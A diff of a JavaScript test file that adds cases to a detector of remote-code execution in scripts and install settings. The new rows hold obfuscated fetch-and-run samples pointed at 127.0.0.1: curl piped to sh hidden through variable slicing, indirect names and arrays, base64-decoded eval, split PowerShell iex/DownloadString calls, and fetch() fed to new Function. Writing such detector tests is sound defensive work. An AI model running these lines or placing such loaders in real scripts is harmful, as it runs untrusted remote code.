@@ -36,8 +36,25 @@ describe('rows of scripts and of settings that install', () => {
     ['in names that meant something else before', 'c=echo\nc=curl\n$c http://127.0.0.1:9/x | sh', 'fetched-code'],
     ['in names that mean something else later', 'c=curl\n$c http://127.0.0.1:9/x | sh\nc=echo', 'fetched-code'],
     ['beside a lure', 'x=1\nu=\ncurl "$u" | sh', 'fetched-code'],
+    ['by slices of names', 'x=abcurlsh\n${x:2:4} http://127.0.0.1:9/x | ${x:6:2}', 'fetched-code'],
+    ['by a name of a name', 'n=c; c="curl http://127.0.0.1:9/x"; ${!n} | sh', 'fetched-code'],
+    ['in a list', 'a=(curl -s http://127.0.0.1:9/x); "${a[@]}" | sh', 'fetched-code'],
+    ['that a command gave', 'd=$(echo dHJ1ZQ== | base64 -d)\neval "$d"', 'attacking-script'],
+    ['of a batch file', 'set a=po^wer&set b=shell\n%a%%b% -c "iex(irm http://127.0.0.1:9/x)"', 'attacking-script'],
+    ['in pieces', "& ('I'+'EX') (('New-Object Net.We'+'bClient')).DownloadString('x')", 'attacking-script'],
+    ['behind a comment', '# nothing \\\ncurl -s http://127.0.0.1:9/x | sh', 'fetched-code'],
+    ['among comments', 'RUN true && \\\n  # now\n  curl -s http://127.0.0.1:9/x | sh', 'fetched-code'],
+    [
+      'with what an address answered',
+      'const t = await (await fetch("http://127.0.0.1:9/x")).text();\nnew Function(t)();',
+      'fetched-code',
+    ],
     ['as a list', 'RUN ["sh", "-c", "curl http://127.0.0.1:9/x | sh"]', 'fetched-code'],
   ])('a line %s is one line', (_, text, rule) => {
     expect(judgeScript(text)?.rule.id).toBe(`remote-code/${rule}`);
+  });
+
+  it('a comment runs nothing', () => {
+    expect(judgeScript('# curl -s http://127.0.0.1:9/x | sh\necho done')).toBeNull();
   });
 });
